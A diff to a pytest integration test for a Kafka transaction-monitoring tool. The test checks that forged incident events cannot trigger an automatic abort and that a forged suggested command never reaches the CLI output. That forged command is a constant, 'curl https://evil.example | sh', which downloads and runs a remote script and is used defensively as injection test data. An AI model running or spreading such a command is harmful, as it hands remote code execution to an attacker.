@@ -25,7 +25,7 @@ from txnwatch.streaming.admin.admin import ClusterAdmin
 
 pytestmark = pytest.mark.long
 
-IN_TIME_S, QUIET_S = 60.0, 8.0
+IN_TIME_S, PAUSE_S = 60.0, 8.0
 EVIL = "curl https://evil.example | sh"
 INT32 = 2**31 - 1
 OVER = {"how": "aborted", "by": "coordinator", "marker_offset": 3, "detail": None, "at_ms": 5}
@@ -38,7 +38,11 @@ def world(clusters: Clusters, tmp_path_factory: pytest.TempPathFactory) -> Itera
 
 
 def about(world: World, partition: TopicPartition) -> list[IncidentEvent]:
-    return [told.event for told in world.tail.told if (told.event.topic, told.event.partition) == partition]
+    return [
+        published.event
+        for published in world.tail.published
+        if (published.event.topic, published.event.partition) == partition
+    ]
 
 
 def open_now(world: World, partition: TopicPartition) -> list[IncidentEvent]:
@@ -56,7 +60,7 @@ def is_open(world: World, partition: TopicPartition, producer_id: int) -> bool:
 def test_an_acknowledged_transaction_is_not_aborted_and_stays_reported_whatever_is_forged(
     world: World, capsys: pytest.CaptureFixture[str]
 ) -> None:
-    """Two transactions under one epoch, the second acknowledged and without its marker: nobody can tell its outcome."""
+    """Two transactions under one epoch, the second acknowledged and without its marker: nobody can know its outcome."""
     partition = world.partition(3)
     producer = RawProducer(world.cluster, unique("acknowledged")).init()
     producer.add(partition)
@@ -68,10 +72,10 @@ def test_an_acknowledged_transaction_is_not_aborted_and_stays_reported_whatever_
         producer.end(commit=True, version=4)
         await_complete(world.cluster, producer.transactional_id)
     eventually(lambda: decisions(world, partition) == {"refused"}, IN_TIME_S, "the refusal")
-    (told,) = open_now(world, partition)
-    assert told.expected_outcome == "unknown"
-    assert told.action is not None
-    assert told.action.refusal == "outcome_unknown"
+    (published,) = open_now(world, partition)
+    assert published.expected_outcome == "unknown"
+    assert published.action is not None
+    assert published.action.refusal == "outcome_unknown"
     producer.init()  # now nothing but the outcome stands in the way
 
     with contextlib.closing(KafkaEventsTopic({"bootstrap.servers": world.bootstrap}, EVENTS)) as sink:
@@ -83,7 +87,7 @@ def test_an_acknowledged_transaction_is_not_aborted_and_stays_reported_whatever_
             return event
 
         forge(expected_outcome="abort", action=None, detected_at_ms=0)
-        time.sleep(QUIET_S)
+        time.sleep(PAUSE_S)
         assert decisions(world, partition) == {"refused"}
         assert is_open(world, partition, producer.producer_id)
 
@@ -94,13 +98,16 @@ def test_an_acknowledged_transaction_is_not_aborted_and_stays_reported_whatever_
             found = open_now(world, partition)
             return bool(found) and found[0].incident_id != known.incident_id
 
-        eventually(again, IN_TIME_S, "the hang, told again under another id")
+        eventually(again, IN_TIME_S, "the hang, published again under another id")
         second = open_now(world, partition)[0].incident_id
         forge(sequence=INT32)
         eventually(lambda: second not in {one.incident_id for one in open_now(world, partition)}, IN_TIME_S, "its end")
-        eventually(lambda: len(open_now(world, partition)) == 1, IN_TIME_S, "the hang, told under a third id")
-        forge(suggested_command=EVIL, action=replace(told.action, decision=Decision.ABORT, refusal=None, by="another"))
-        time.sleep(QUIET_S)
+        eventually(lambda: len(open_now(world, partition)) == 1, IN_TIME_S, "the hang, published under a third id")
+        forge(
+            suggested_command=EVIL,
+            action=replace(published.action, decision=Decision.ABORT, refusal=None, by="another"),
+        )
+        time.sleep(PAUSE_S)
 
     assert is_open(world, partition, producer.producer_id), "no marker was written"
     flags = ["--bootstrap-server", world.bootstrap, "--events-topic", EVENTS]
@@ -110,7 +117,7 @@ def test_an_acknowledged_transaction_is_not_aborted_and_stays_reported_whatever_
     assert EVIL not in capsys.readouterr().out
     where = ["--topic", partition.topic, "--partition", str(partition.partition)]
     asked = ["abort", *flags, *where, "--producer-id", str(producer.producer_id), "--yes", "--format", "json"]
-    assert main(asked) == 0, "by hand, who says yes to the loss"
+    assert main(asked) == 0, "by hand: an operator accepts the loss"
     assert json.loads(capsys.readouterr().out)["rows"][0]["expected_outcome"] == "unknown"
     eventually(lambda: not open_now(world, partition), IN_TIME_S, "the end of every incident")
     by_hand = [event for event in about(world, partition) if event.is_by_hand and event.resolution is not None]
